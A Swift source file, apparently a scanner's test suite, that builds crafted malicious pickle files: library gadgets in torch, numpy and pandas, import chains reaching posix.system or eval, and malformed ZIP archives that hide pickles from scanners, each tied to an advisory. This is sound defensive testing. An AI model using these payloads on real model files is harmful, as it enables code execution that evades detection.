import Pickle

extension Bypass {
  private static func gadget(
    _ source: String, _ module: String, _ name: String, _ arguments: [PickleOpcode], _ proof: Proof
  ) -> Bypass {
    Bypass(
      "\(module).\(name) is called", source,
      pickle([.proto(4), .imported(module, name), .mark] + arguments + [.tuple, .reduce, .stop]), proof)
  }

  private static let source = PickleOpcode.text(code)
  private static let torch = Proof.fires(with: "torch 2.13.0")
  private static let numpy = Proof.fires(with: "numpy 2.4.6")
  private static let path = PickleOpcode.text("/nonexistent/lazaret-canary")
  private static let nested = pickle(.proto(4), .run, .stop)

  static let torchGadgets: [Bypass] = [
    gadget(
      "GHSA-f745-w6jp-hpxx", "torch.utils.collect_env", "run", [command],
      .fires("subprocess.Popen", with: "torch 2.13.0")),
    gadget(
      "GHSA-4r9r-ch6f-vxmx", "torch.utils.bottleneck.__main__", "run_cprofile", [source, .emptyDict],
      .notSeen("gone from torch 2.15")),
    gadget(
      "GHSA-86cj-95qr-2p4f, CVE-2025-71353", "torch._dynamo.guards", "GuardBuilder.get", [.none, source],
      .fires("torch._dynamo.guards.GuardBuilder.get", with: "torch 2.13.0")),
    gadget(
      "GHSA-f4x7-rfwp-v3xw", "torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression",
      [.none, source, .emptyTuple],
      .fires(
        "torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression", with: "torch 2.13.0")),
    gadget(
      "GHSA-h3qp-7fh3-f8h4", "torch.utils.data.datapipes.utils.decoder", "basichandlers",
      [.text("pickle"), .bytes(nested)],
      torch),
    gadget(
      "GHSA-vr7h-p6mm-wpmh", "torch.jit.unsupported_tensor_ops", "execWrapper",
      [source, .emptyDict, .emptyDict], torch),
    gadget(
      "GHSA-vv6j-3g6g-2pvj", "torch.utils._config_module", "ConfigModule.load_config",
      [.none, .bytes(nested)],
      .fires("torch.utils._config_module.ConfigModule.load_config", with: "torch 2.13.0")),
    gadget(
      "GHSA-655q-fx9r-782v", "torch.serialization", "load", [path],
      .fires("torch.serialization.load", with: "torch 2.13.0")),
    gadget("modelscan: loaders", "torch", "load", [path], .fires("torch.load", with: "torch 2.13.0")),
    gadget(
      "modelscan: loaders", "torch.hub", "load", [path, path],
      .fires("torch.hub.load", with: "torch 2.13.0")),
    gadget(
      "modelscan: loaders", "torch.jit", "load", [path], .fires("torch.jit.load", with: "torch 2.13.0")),
    Bypass(
      "a pickle in bytes is loaded by torch's storages", "modelscan#267",
      pickle(.proto(4), .call("torch.storage", "_load_from_bytes", .bytes(nested)), .stop),
      .notSeen("torch 2.15 loads these bytes with weights_only")),
  ]

  static let libraryGadgets: [Bypass] = [
    gadget(
      "GHSA-r8g5-cgf2-4m4m", "numpy.f2py.crackfortran", "getlincoef",
      [source, .raw(pickle(.emptyDict))], numpy),
    gadget("CVE-2025-71365", "numpy.f2py.crackfortran", "myeval", [source], numpy),
    gadget("CVE-2025-71339", "numpy.f2py.crackfortran", "_eval_length", [source, .emptyDict], numpy),
    gadget("CVE-2025-71355", "numpy.testing._private.utils", "runstring", [source, .emptyDict], numpy),
    gadget(
      "picklescan: numpy.distutils", "numpy.distutils.exec_command", "exec_command", [command],
      .notSeen("gone from numpy 2.4")),
    gadget(
      "modelscan: loaders", "numpy", "load", [path, .none, .newTrue],
      .fires("numpy.load", with: "numpy 2.4.6")),
    gadget("picklescan: files", "numpy", "fromfile", [path], .fires("numpy.fromfile", with: "numpy 2.4.6")),
    gadget("picklescan: files", "numpy", "memmap", [path], .fires("numpy.memmap", with: "numpy 2.4.6")),
    gadget("picklescan: files", "numpy", "savez", [path], .fires("numpy.savez", with: "numpy 2.4.6")),
    gadget(
      "picklescan: files", "numpy", "savetxt", [path, .emptyList],
      .fires("numpy.savetxt", with: "numpy 2.4.6")),
    gadget(
      "picklescan: ctypeslib", "numpy.ctypeslib", "load_library", [.text("x"), path],
      .fires("numpy.ctypeslib.load_library", with: "numpy 2.4.6")),
    gadget(
      "modelscan#269", "pandas", "read_pickle", [path], .fires("pandas.read_pickle", with: "pandas 3.1.1")),
    gadget(
      "picklescan: files", "pandas", "read_csv", [path], .fires("pandas.read_csv", with: "pandas 3.1.1")),
    gadget(
      "picklescan: pandas.eval", "pandas.core.computation.eval", "eval", [source],
      .fires("pandas.core.computation.eval.eval", with: "pandas 3.1.1")),
    gadget("modelscan: loaders", "joblib", "load", [path], .fires("joblib.load", with: "joblib 1.6.0")),
    gadget("picklescan: loaders", "dill", "loads", [.bytes(nested)], .fires(with: "dill 0.4.1")),
    gadget(
      "GHSA-9m3x-qqw2-h32h", "cloudpickle", "loads", [.bytes(nested)], .fires(with: "cloudpickle 3.1.2")),
    gadget(
      "picklescan: sympy", "sympy.parsing.sympy_parser", "parse_expr", [source], .fires(with: "sympy 1.14")),
    gadget(
      "picklescan: jinja2", "jinja2", "Template", [source], .fires("jinja2.Template", with: "jinja2 3.1")),
    gadget("picklescan: loaders", "yaml", "unsafe_load", [.text("1")], .notSeen("PyYAML")),
    gadget("picklescan: loaders", "skops.io", "load", [path], .notSeen("skops")),
    gadget("picklescan: loaders", "keras.models", "load_model", [path], .notSeen("keras")),
    gadget("picklescan: loaders", "nltk.data", "load", [path], .notSeen("nltk")),
    gadget("picklescan: tensorflow", "tensorflow", "py_function", [.none], .notSeen("tensorflow")),
    gadget(
      "picklescan: mlflow", "mlflow.projects.backend.local", "_run_entry_point",
      [command, path, .none, .none], .notSeen("mlflow")),
  ]

  /// Names fetched by other names, and values that run when they are used.
  static let chains: [Bypass] = [
    Bypass(
      "import_module and getattr_static", "peers 39",
      pickle(
        .proto(4),
        .call(
          "inspect", "getattr_static", .call("importlib", "import_module", .text("posix")), .text("system")),
        .callTop(command), .stop)),
    Bypass(
      "import_module and methodcaller", "peers 39",
      pickle(
        .proto(4), .call("operator", "methodcaller", .text("system"), command),
        .callTop(.call("importlib", "import_module", .text("posix"))), .stop)),
    Bypass(
      "attrgetter over a module", "peers 47",
      pickle(
        .proto(4), .call("operator", "attrgetter", .text("system")),
        .callTop(.call("builtins", "__import__", .text("posix"))), .callTop(command), .stop)),
    Bypass(
      "pkgutil.resolve_name", "CVE-2026-3490",
      pickle(.proto(4), .call("pkgutil", "resolve_name", .text("posix:system")), .callTop(command), .stop)),
    Bypass(
      "pydoc.locate", "CVE-2025-71320, GHSA-84r2-jw7c-4r5q",
      pickle(.proto(4), .call("pydoc", "locate", .text("posix.system")), .callTop(command), .stop)),
    Bypass(
      "a function made of a code object", "picklescan#74, CVE-2025-67747",
      pickle(
        .proto(4),
        .call(
          "types", "FunctionType", .call("builtins", "compile", source, .text("x"), .text("exec")),
          .emptyDict),
        .callTop(), .stop)),
    Bypass(
      "type hints of a made class are evaluated", "wulonchia: get_type_hints",
      pickle(
        .proto(4),
        .call(
          "typing", "get_type_hints",
          .call(
            "builtins", "type", .text("x"), .emptyTuple,
            .dictOf(.text("__annotations__"), .dictOf(.text("a"), source)))),
        .stop)),
    Bypass(
      "a name put together while loading", "modelscan#331",
      pickle(
        .proto(4), .call("builtins", "getattr", .text(""), .text("join")),
        .callTop(.listOf(.text("po"), .text("six"))), .memoize, .pop,
        .call("importlib", "import_module", .binget(0)), .memoize, .pop,
        .call("builtins", "getattr", .binget(1), .text("system")), .callTop(command), .stop)),
    Bypass(
      "partial over system, called", "GHSA-655q-fx9r-782v",
      pickle(
        .proto(4), .call("functools", "partial", .imported("posix", "system"), command), .callTop(), .stop)),
    Bypass(
      "BUILD puts built-ins into a function of NumPy", "modelscan#85, #330",
      pickle(
        .proto(4), .imported("numpy", "size"), .dictOf(.text("a"), .imported("posix", "system")), .build,
        .pop,
        .imported("numpy", "size.a"), .callTop(command), .stop),
      .fires(with: "numpy 2.4.6")),
    Bypass(
      "numpy.__builtins__ and dict.get", "modelscan#89",
      pickle(
        .proto(4), .call("builtins", "dict.get", .imported("numpy", "__builtins__"), .text("eval")),
        .callTop(source), .stop),
      .fires(with: "numpy 2.4.6")),
    Bypass(
      "sys.modules through an internal module of NumPy", "peers 48",
      pickle(
        .proto(4), .imported("numpy.core._internal", "sys.modules"), .text("colorsys"),
        .call("builtins", "__import__", .text("posix")), .setitem, .imported("colorsys", "system"),
        .callTop(command),
        .stop),
      .fires(with: "numpy 2.4.6")),
    Bypass(
      "sys.modules is given another module", "peers 44",
      pickle(
        .proto(4), .imported("sys", "modules"), .text("colorsys"),
        .call("builtins", "__import__", .text("posix")),
        .setitem, .pop, .imported("colorsys", "system"), .callTop(command), .stop)),
    Bypass(
      "the default of a defaultdict is taken while loading", "peers 50",
      pickle(
        .proto(4), .call("collections", "defaultdict", .imported("builtins", "breakpoint")), .memoize, .pop,
        .call("operator", "getitem", .binget(0), .text("k")), .stop),
      .fires("builtins.breakpoint")),
    Bypass(
      "append of an allowed class is an imported function", "peers 50",
      pickle(
        .proto(4), .imported("collections", "Counter"), .emptyTuple, .newobj,
        .dictOf(.text("append"), .imported("posix", "system")), .build, command, .append, .stop),
      .notSeen("the C unpickler asks for extend first")),
    Bypass(
      "extend of an allowed class is an imported function", "peers 50",
      pickle(
        .proto(4), .imported("collections", "Counter"), .emptyTuple, .newobj,
        .dictOf(.text("extend"), .imported("posix", "system")), .build, command, .append, .stop)),
    Bypass(
      "__setstate__ of an allowed class is an imported function", "peers 50",
      pickle(
        .proto(4), .imported("collections", "Counter"), .emptyTuple, .newobj,
        .dictOf(.text("__setstate__"), .imported("posix", "system")), .build, command, .build, .stop)),
    Bypass(
      "names of __main__ are trusted", "peers 49",
      pickle(
        .proto(4), .imported("__main__", "os.system"), command, .tuple1, .reduce, .stop),
      .notSeen("depends on the loading program")),
  ]

  /// Pickles inside other files.
  static let carried: [Bypass] = [
    Bypass(
      "the second pickle of a legacy torch file", "modelscan: only the magic number is read",
      pickle(
        .proto(2), .raw([0x8A, 10, 0x6C, 0xFC, 0x9C, 0x46, 0xF9, 0x20, 0x6A, 0xA8, 0x50, 0x19]), .stop)
        + pickle(.proto(2), .integer(1001), .stop) + pickle(.proto(4), .run, .stop),
      .fires(in: "torch", with: "torch 2.13.0")),
    Bypass(
      "a legacy torch file with another magic number", "CVE-2025-10155, GHSA-jgw4-cr84-mqxg",
      pickle(.proto(2), .integer(1), .pop, .run, .stop), .fires(in: "torch", with: "torch 2.13.0")),
    Bypass(
      "the magic number is made by eval", "GHSA-97f8-7cmv-76j2",
      pickle(.proto(2), .call("builtins", "eval", .text(code)), .stop),
      .fires(in: "torch", with: "torch 2.13.0")),
    zipped("a pickle that another first entry of the name hides", "picklescan: zip duplicates") { builder in
      builder.members.append(ZIPBuilder.Member("archive/data.pkl", pickle(.proto(2), .emptyDict, .stop)))
    },
    zipped("a wrong CRC", "CVE-2025-10156, GHSA-mjqp-26hc-grxg") { builder in
      builder.members[0].setBoth { $0.crc ^= 0xFFFF }
    },
    zipped("the local header has another name", "CVE-2025-1944, GHSA-7q5r-7gvp-wc82") { builder in
      builder.members[0].local.name = Array("archive/data.txt".utf8)
    },
    zipped("junk before the archive", "peers 34") { builder in builder.prefix = Array("junk".utf8) },
    Bypass(
      "a member without an extension, in protocol 0", "peers 25",
      ZIPBuilder([
        ZIPBuilder.Member(
          "weights",
          pickle(
            .global("posix", "system"), .mark, .lines(.unicode, "lazaret-canary"), .tuple, .reduce, .stop))
      ]).build(), .notSeen("a loader has to open the member")),
    Bypass(
      "an archive in an archive", "peers 32",
      ZIPBuilder([
        ZIPBuilder.Member("inner.zip", ZIPBuilder([ZIPBuilder.Member("a.pkl", nested)]).build())
      ]).build(), .notSeen("a loader has to unpack it")),
    Bypass(
      "a member of an npz file without an extension", "peers 36",
      ZIPBuilder([ZIPBuilder.Member("weights", nested)]).build(), .notSeen("numpy reads it as bytes")),
  ]

  /// A torch archive whose `data.pkl` calls, changed in one way.
  private static func zipped(
    _ name: String, _ source: String, _ change: (inout ZIPBuilder) -> Void
  ) -> Bypass {
    var builder = ZIPBuilder([
      ZIPBuilder.Member("archive/data.pkl", nested),
      ZIPBuilder.Member("archive/version", Array("3\n".utf8)),
    ])
    change(&builder)
    return Bypass(name, source, builder.build(), .notSeen("depends on the reader of archives"))
  }
}
